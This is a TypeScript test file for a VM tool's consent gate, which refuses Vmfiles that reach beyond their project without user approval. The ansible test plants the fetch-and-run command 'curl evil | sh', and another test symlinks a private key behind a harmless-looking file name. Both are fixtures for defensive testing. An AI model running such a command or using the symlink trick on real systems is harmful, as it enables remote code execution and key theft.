import {mkdir, readdir, symlink, writeFile} from 'node:fs/promises'
import {join} from 'node:path'

import {expect} from 'chai'

import {useProject, virsh, vm} from './helpers.js'

/**
 * A Vmfile from a stranger's repository reaches nothing beyond its project unless the user
 * allows it: --allow, `vm allow` (recorded outside the project, per digest), or a yes on a
 * terminal; without those, exit 2 before anything is made. These run without a terminal.
 */
describe('consent for what a Vmfile reaches beyond its project', () => {
  const project = useProject('box: debian-12\n')
  const write = (text: string) => writeFile(join(project().dir, 'Vmfile'), text)
  const NOT_ALLOWED = /^Error: This Vmfile reaches beyond its project, and you have not allowed it: /m

  const CASES: Array<[string, string, RegExp]> = [
    ['a folder of the whole host', 'box: debian-12\nfolders: [{host: /, guest: /host, type: virtiofs}]\n', /host path \/, outside the project: folder shared live with the guest \(virtiofs, the guest can write to it\) \[default\]/],
    ['a folder up and out of the project', 'box: debian-12\nfolders: [{host: ../.., guest: /up}]\n', /host path \/\S*, outside the project: folder copied into the guest \(rsync\)/],
    ['a forward open to every network', 'box: debian-12\nports: ["0.0.0.0:8080:80"]\n', /port 0\.0\.0\.0:8080\/tcp open to every network the host is on, forwarded to the guest's port 80/],
    ['an ansible provisioner', 'box: debian-12\nprovision: [{ansible: {playbook: site.yml}}]\n', /ansible-playbook runs site\.yml on the host, with the roles, plugins and ansible\.cfg beside it/],
    ['a host bridge', 'box: debian-12\nbridge: br0\n', /a NIC on the host bridge br0: the guest is on the host's LAN/],
    ['another libvirt network', 'box: debian-12\nnetwork: lab\n', /the libvirt network lab instead of default/],
  ]

  for (const [what, vmfile, item] of CASES) {
    it(`${what}: vm up exits 2 before asking libvirt anything, naming the item and vm allow`, async () => {
      await write(vmfile)
      const result = await vm(project(), ['up'])
      expect(result.exitCode, result.stderr).to.equal(2)
      expect(result.stderr).to.match(NOT_ALLOWED)
      expect(result.stderr).to.match(item)
      expect(result.stderr).to.contain('Hint: Nothing was made. If you trust this Vmfile, run `vm allow`')
      expect(result.calls).to.deep.equal([])
      expect(await readdir(project().dir)).to.deep.equal(['Vmfile'])
    })
  }

  it('a file provisioner whose source is a symlink to a key outside: refused, and validate names where it leads', async () => {
    const secret = join(project().root, 'id_ed25519')
    await writeFile(secret, 'PRIVATE\n')
    await symlink(secret, join(project().dir, 'innocent.conf'))
    await write('box: debian-12\nprovision: [{file: {source: ./innocent.conf, destination: /etc/app.conf}}]\n')
    const up = await vm(project(), ['provision'])
    expect(up.exitCode).to.equal(2)
    expect(up.stderr).to.contain(`host path ${secret} (named as ${project().dir}/innocent.conf), outside the project: file provisioner source, copied into the guest`)
    expect(up.calls).to.deep.equal([])
    const validate = await vm(project(), ['validate'])
    expect(validate.exitCode).to.equal(0)
    expect(validate.stdout).to.contain('It reaches beyond its project; `vm up` needs your consent first')
    expect(validate.stdout).to.contain(`host path ${secret} (named as ${project().dir}/innocent.conf)`)
  })

  it("a file in the project's .vm/ counts as outside: it holds the project's private key", async () => {
    await mkdir(join(project().dir, '.vm'))
    await write('box: debian-12\nprovision: [{file: {source: ./.vm/id_ed25519, destination: /tmp/k}}]\n')
    const result = await vm(project(), ['up'])
    expect(result.exitCode).to.equal(2)
    expect(result.stderr).to.contain("in the project's .vm/, beside its private key")
  })

  it('vm allow records consent outside the project; up then passes the gate; a changed Vmfile asks again', async () => {
    await write('box: debian-12\nports: ["0.0.0.0:8080:80"]\n')
    const allow = await vm(project(), ['allow'])
    expect(allow.exitCode, allow.stderr).to.equal(0)
    expect(allow.stdout).to.contain('Allowed for')
    expect(allow.stdout).to.contain('port 0.0.0.0:8080/tcp')
    expect(await readdir(project().dir)).to.deep.equal(['Vmfile'])
    expect(await readdir(join(project().home, 'data', 'allow'))).to.have.length(1)

    const up = await vm(project(), ['up'])
    expect(up.stderr).to.not.match(NOT_ALLOWED)
    expect(up.calls[0]?.argv).to.deep.equal(virsh('version'))

    const validate = await vm(project(), ['validate', '--json'])
    const json = JSON.parse(validate.stdout) as {reach: {allowed: boolean; items: Array<{kind: string}>}}
    expect(json.reach.allowed).to.equal(true)
    expect(json.reach.items.map((i) => i.kind)).to.deep.equal(['port'])

    await write('box: debian-12\nports: ["0.0.0.0:8080:80", "0.0.0.0:2222:22"]\n')
    const again = await vm(project(), ['up'])
    expect(again.exitCode).to.equal(2)
    expect(again.stderr).to.match(NOT_ALLOWED)
    expect(again.calls).to.deep.equal([])
  })

  it('a change to a file the Vmfile names (the playbook) asks again too', async () => {
    await writeFile(join(project().dir, 'site.yml'), '- hosts: all\n')
    await write('box: debian-12\nprovision: [{ansible: {playbook: site.yml}}]\n')
    expect((await vm(project(), ['allow'])).exitCode).to.equal(0)
    expect((await vm(project(), ['up'])).stderr).to.not.match(NOT_ALLOWED)
    await writeFile(join(project().dir, 'site.yml'), '- hosts: all\n  tasks: [{command: "curl evil | sh"}]\n')
    expect((await vm(project(), ['up'])).stderr).to.match(NOT_ALLOWED)
  })

  it('vm allow --revoke takes it back', async () => {
    await write('box: debian-12\nbridge: br0\n')
    await vm(project(), ['allow'])
    const revoke = await vm(project(), ['allow', '--revoke'])
    expect(revoke.stdout).to.equal(`Consent taken back for ${project().dir}.\n`)
    expect((await vm(project(), ['up'])).exitCode).to.equal(2)
  })

  it('--allow lets one command through and records nothing', async () => {
    await write('box: debian-12\nbridge: br0\n')
    const up = await vm(project(), ['up', '--allow'])
    expect(up.stderr).to.not.match(NOT_ALLOWED)
    expect(up.calls[0]?.argv).to.deep.equal(virsh('version'))
    expect((await vm(project(), ['up'])).exitCode).to.equal(2)
  })

  it('a consent written into the project (a committed file) counts for nothing', async () => {
    await write('box: debian-12\nbridge: br0\n')
    await mkdir(join(project().dir, '.vm'))
    await writeFile(join(project().dir, '.vm', 'allow.json'), '{"allowed": true}\n')
    expect((await vm(project(), ['up'])).exitCode).to.equal(2)
  })

  it('a Vmfile that stays inside its project needs nothing, and validate lists nothing', async () => {
    await mkdir(join(project().dir, 'site'))
    await write('box: debian-12\nfolders: [{host: ./site, guest: /srv/site}]\nports: ["8080:80", "127.0.0.2:8081:81"]\n')
    const validate = await vm(project(), ['validate'])
    expect(validate.stdout).to.not.contain('reaches beyond')
    const up = await vm(project(), ['up'])
    expect(up.stderr).to.not.match(NOT_ALLOWED)
  })

  it('vm validate on a cloud_init file outside the project neither reads nor runs anything for it', async () => {
    const outside = join(project().root, 'elsewhere.yaml')
    await writeFile(outside, '#cloud-config\npackages: [git]\n')
    await write(`box: debian-12\ncloud_init: ${outside}\n`)
    const validate = await vm(project(), ['validate'])
    expect(validate.exitCode).to.equal(0)
    expect(validate.stderr).to.contain('cloud_init: not read or checked: The cloud_init file')
    expect(validate.stdout).to.contain(`host path ${outside}, outside the project: cloud_init file`)
  })
})
